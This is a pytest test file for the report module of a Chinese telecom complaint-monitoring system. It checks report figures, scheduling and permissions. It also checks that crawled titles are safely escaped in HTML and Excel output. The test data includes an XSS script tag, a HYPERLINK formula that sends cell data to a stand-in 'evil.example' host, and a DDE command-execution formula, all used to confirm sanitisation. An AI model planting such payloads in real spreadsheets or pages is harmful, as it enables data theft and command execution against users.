"""A daily report from a known data set: every number checked, HTML escaped, Excel read back."""

from __future__ import annotations

from datetime import date, datetime, timedelta

import pytest

from tests.cases.helpers import T0, Clock, add_alert, make_config, post, users
from core.post import CST

DAY = date(2026, 11, 20)
NOW = datetime(2026, 11, 21, 8, 0, tzinfo=CST)


@pytest.fixture
def report_world(tmp_path):
    from cases.service import CaseService
    from indexer import open_store
    from core.db import StateDB

    cfg = make_config(tmp_path, reports={"subscribers": {"长沙": 400}})
    prev = T0 - timedelta(days=1)
    posts = [post(1), post(2), post(3, source="weibo"),                                  # 长沙 tier 3
             post(4, severity=4, categories=("资费计费/乱扣费",), influence=0.9,
                  title="<script>alert(1)</script>曝光乱扣费"),                             # 长沙 tier 4
             post(5, city="株洲", severity=2, categories=("网络覆盖/信号",)),
             post(6, city="株洲", severity=2, categories=("网络覆盖/信号",)),
             post(7, city="湘潭", severity=1, categories=("其他",)),                        # inquiry
             post(8, city=None, severity=0, relevant=False),                               # noise
             post(9, published=prev), post(10, published=prev)]                            # previous day
    store = open_store(cfg)
    store.upsert_many(posts)
    db = StateDB(cfg.state_path)
    db.execute("PRAGMA synchronous=OFF")   # test data: no need to survive a power cut
    people = users(db)
    clock = Clock()
    cases = CaseService(cfg, db, store, clock=clock)
    a = cases.create_from_post(people["mon"], posts[0].id)          # 长沙 tier 3: 4 h / 48 h
    b = cases.create_from_post(people["mon"], posts[4].id)          # 株洲 tier 2: 24 h / 72 h
    c = cases.create_from_post(people["mon"], posts[3].id)          # 长沙 tier 4: 1 h / 24 h
    clock.advance(hours=1, minutes=30)
    cases.act(people["cs"], a.case_id, "accept")
    cases.act(people["cs"], a.case_id, "reply", "您好")               # 10:30, in time
    clock.advance(hours=4)
    cases.act(people["cs"], a.case_id, "close", "已修复")              # closed 14:30
    cases.act(people["cs"], c.case_id, "accept")
    cases.act(people["cs"], c.case_id, "reply", "您好")               # 14:30: 3.5 h late
    add_alert(db, cfg, "post:x", 1, [posts[3].id])
    yield cfg, store, db, {"a": a, "b": b, "c": c}
    store.close()
    db.close()


def _rows(section):
    return {row[0]: row[1:] for row in section.rows}


def test_daily_numbers(report_world):
    from reports.data import build_report

    cfg, store, db, made = report_world
    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
    assert report.period.label == "2026年11月20日"
    overview = _rows(report.section("overview"))
    assert overview["采集帖子"] == [8, 2, 300.0]
    assert overview["相关帖子"] == [7, 2, 250.0]
    assert overview["有效投诉（2级及以上）"] == [6, 2, 200.0]
    assert overview["明确投诉（3级及以上）"] == [4, 2, 100.0]
    assert overview["曝光/升级（4级）"][:2] == [1, 0]
    assert overview["预警"][:2] == [1, 0]
    assert overview["新建工单"][:2] == [3, 0]
    # 及时率: a in time, c late, b not yet due at midnight (24 h) → 1 of 2 measured
    assert overview["及时率%（首次响应在时限内）"][0] == 50.0
    assert overview["解决率%（办结/新建）"][0] == pytest.approx(33.3)
    city = _rows(report.section("city"))
    assert city["长沙"] == [4, 2, 100.0, 400, 0.01, 0.005]               # override: 400 万户
    assert city["株洲"] == [2, 0, None, 250.0, 0.008, 0.0]
    assert city["湘潭"][0] == 0                                           # tier 1 is not a complaint
    assert _rows(report.section("source")) == {"demo-forum": [6, 2, 200.0], "weibo": [1, 0, None]}
    assert _rows(report.section("category"))["宽带/家宽"] == [3, 2, 50.0]
    tiers = _rows(report.section("tier"))
    assert tiers["4级 曝光/升级"][0] == 1 and tiers["1级 咨询求助"][0] == 1
    assert report.section("events").rows[0][1].startswith("<script>")    # most influential first
    handling = _rows(report.section("handling"))
    assert handling["长沙分公司"] == [2, 2, 1, 50.0, 1, 50.0, 100.0, 0]
    assert handling["株洲分公司"] == [1, 0, 0, None, 0, 0.0, None, 0]
    assert handling["全省合计"][0] == 3
    stages = _rows(report.section("stages"))
    # a: 已派单 09:00–10:30, 已回复 10:30–14:30; c: 已派单 09:00–14:30, 已回复 14:30–24:00; b: 已派单 all day
    # (处理中 lasted 0 h in both: accepted and answered at once, so it has no column)
    assert report.section("stages").columns == ["责任单位", "工单数", "已派单", "已回复"]
    assert stages["长沙分公司"] == [2, 3.5, 6.75]
    assert stages["株洲分公司"] == [1, 15.0, 0.0]
    trend = report.section("trend")
    assert trend.columns[0] == "时间" and sum(sum(r[1:]) for r in trend.rows) == 7


def test_overdue_list_per_branch(report_world):
    from reports.data import build_report

    cfg, store, db, made = report_world
    later = datetime(2026, 11, 23, 8, 0, tzinfo=CST)
    report = build_report(cfg, "daily", date(2026, 11, 22), store=store, db=db, now=later)
    overdue = report.section("overdue").rows
    # b (株洲): first response due 11-21 09:00 passed (closure not till 11-23 09:00);
    # c (长沙): replied, but closure was due 11-21 09:00
    assert sorted((r[0], r[1], r[6]) for r in overdue) == [
        ("株洲分公司", made["b"].case_no, "首次响应"), ("长沙分公司", made["c"].case_no, "办结")]
    assert _rows(report.section("handling"))["全省合计"][-1] == 2


def test_html_and_excel(report_world, tmp_path):
    from openpyxl import load_workbook

    from reports.data import build_report
    from reports.render import write

    cfg, store, db, _ = report_world
    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
    html = write(report, tmp_path / "r.html").read_text(encoding="utf-8")
    assert "<script>" not in html and "&lt;script&gt;alert(1)&lt;/script&gt;" in html
    assert html.count("<svg") >= 5 and "万投比" in html and "<script src" not in html
    book = load_workbook(write(report, tmp_path / "r.xlsx"))
    assert book.sheetnames == ["封面", "总体情况", "舆情简报（每句附依据）", "趋势（相关帖子，按等级）", "来源分布（相关帖子）",
                               "投诉分类（2级及以上）", "等级分布（相关帖子）",
                               "竞品对比（各运营商投诉量与等级构成）", "地市投诉与万投比",
                               "热点事件（影响力前列）", "处置时效（按责任单位）",
                               "各环节平均用时（小时，按责任单位）", "预警分析（审核、发布方式与恢复）",
                               "超期工单清单（按责任单位）"]
    overview = {r[0]: r[1:] for r in book["总体情况"].iter_rows(min_row=2, values_only=True) if r[0]}
    assert overview["相关帖子"][:2] == (7, 2)
    cities = {r[0]: r for r in book["地市投诉与万投比"].iter_rows(min_row=2, values_only=True)}
    assert cities["长沙"][5] == 0.01


@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil.example/?x="&A1,"点击")',
                                   "=cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(A1)"])
def test_crawled_titles_are_text_in_the_workbook(report_world, tmp_path, title):
    """A title that starts like a formula is stored as text, never as a live formula."""
    from openpyxl import load_workbook

    from reports.data import build_report
    from reports.render import write
    from tests.cases.helpers import post

    cfg, store, db, _ = report_world
    store.upsert_many([post(30, severity=4, influence=5.0, title=title)])
    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
    book = load_workbook(write(report, tmp_path / "r.xlsx"))
    cells = [c for row in book["热点事件（影响力前列）"].iter_rows(min_row=2) for c in row
             if isinstance(c.value, str) and title in c.value]
    assert cells and all(c.data_type == "s" and c.value == "'" + title for c in cells)
    assert not any(c.data_type == "f" for sheet in book for row in sheet.iter_rows() for c in row)


def test_rivals_beside_ours(report_world):
    """竞品对比: competitors' posts count by their authors' intent; a post about two counts in both."""
    from reports.data import build_report
    from tests.cases.helpers import post

    cfg, store, db, _ = report_world
    store.upsert_many([
        post(21, severity=0, relevant=False, operators=("联通",), intent=3),
        post(22, severity=0, relevant=False, operators=("联通",), intent=1),
        post(23, severity=0, relevant=False, operators=("电信",), intent=4),
        post(24, severity=2, operators=("移动", "电信"), intent=2),
        post(25, severity=0, relevant=False, operators=("联通",), intent=2, published=T0 - timedelta(days=1)),
    ])
    report = build_report(cfg, "daily", DAY, store=store, db=db, now=NOW)
    section = report.section("rivals")
    assert [r[0] for r in section.rows] == ["移动", "联通", "电信", "广电"]   # ours first
    rivals = _rows(section)
    # posts, complaints (2级+), previous day, change, share, then tiers 4..0
    assert rivals["联通"] == [2, 1, 1, 0.0, 50.0, 0, 1, 0, 1, 0]
    assert rivals["电信"] == [2, 2, 0, None, 100.0, 1, 0, 1, 0, 0]
    assert rivals["移动"][:3] == [8, 7, 2] and rivals["移动"][5:] == [1, 3, 3, 1, 0]
    assert rivals["广电"] == [0, 0, 0, None, None, 0, 0, 0, 0, 0]


def test_periods():
    from reports.period import period_for

    week = period_for("weekly", date(2026, 11, 20))
    assert (week.start.date(), week.end.date(), week.previous_start.date()) == (
        date(2026, 11, 16), date(2026, 11, 23), date(2026, 11, 9))
    month = period_for("monthly", date(2026, 12, 31))
    assert (month.start.date(), month.end.date(), month.previous_start.date(), month.slug) == (
        date(2026, 12, 1), date(2027, 1, 1), date(2026, 11, 1), "monthly-2026-12")
    assert period_for("daily", today=date(2026, 11, 21)).start.date() == DAY


def test_handlers_cannot_build_reports(report_world):
    from accounts import AccountService, PermissionDenied
    from reports.data import build_report

    cfg, store, db, _ = report_world
    with pytest.raises(PermissionDenied):
        build_report(cfg, "daily", DAY, actor=AccountService(db).load_user("cs"), store=store, db=db)


def test_scheduled_report_is_written_and_announced(report_world, tmp_path):
    import json

    from reports.schedule import generate

    cfg, store, db, _ = report_world
    result = generate(cfg, "weekly", DAY, now=NOW)
    assert result["html"].endswith("weekly-2026-W47.html") and result["alert_id"]
    sent = [json.loads(line) for line in (tmp_path / "alerts.jsonl").read_text(encoding="utf-8").splitlines()]
    assert sent[-1]["title"].startswith("【周报】") and "weekly-2026-W47.xlsx" in sent[-1]["body"]
    assert generate(cfg, "weekly", DAY, now=NOW)["alert_id"] is None       # announced once


def test_cli_report(report_world, tmp_path):
    from typer.testing import CliRunner

    from tousu.cli.main import app

    cfg, *_ = report_world
    out = tmp_path / "m.xlsx"
    result = CliRunner().invoke(app, ["--config", str(cfg.file), "report", "monthly", "--date",
                                      "2026-11-20", "-o", str(out)])
    assert result.exit_code == 0, result.output
    assert out.exists()
    bad = CliRunner().invoke(app, ["--config", str(cfg.file), "report", "yearly"])
    assert bad.exit_code == 2


def test_scheduled_jobs_fire_on_the_right_days(tmp_path):
    from apscheduler.schedulers.background import BackgroundScheduler

    from tousu.monitor import add_case_and_report_jobs

    cfg = make_config(tmp_path)
    scheduler = BackgroundScheduler(timezone="Asia/Shanghai")
    add_case_and_report_jobs(scheduler, cfg)
    scheduler.start(paused=True)
    try:
        jobs = {job.id: job.next_run_time for job in scheduler.get_jobs()}
    finally:
        scheduler.shutdown()
    assert set(jobs) == {"cases", "rectification", "report:daily", "report:weekly", "report:monthly"}
    assert jobs["report:weekly"].weekday() == 0 and jobs["report:weekly"].hour == 8   # Monday
    assert jobs["report:monthly"].day == 1
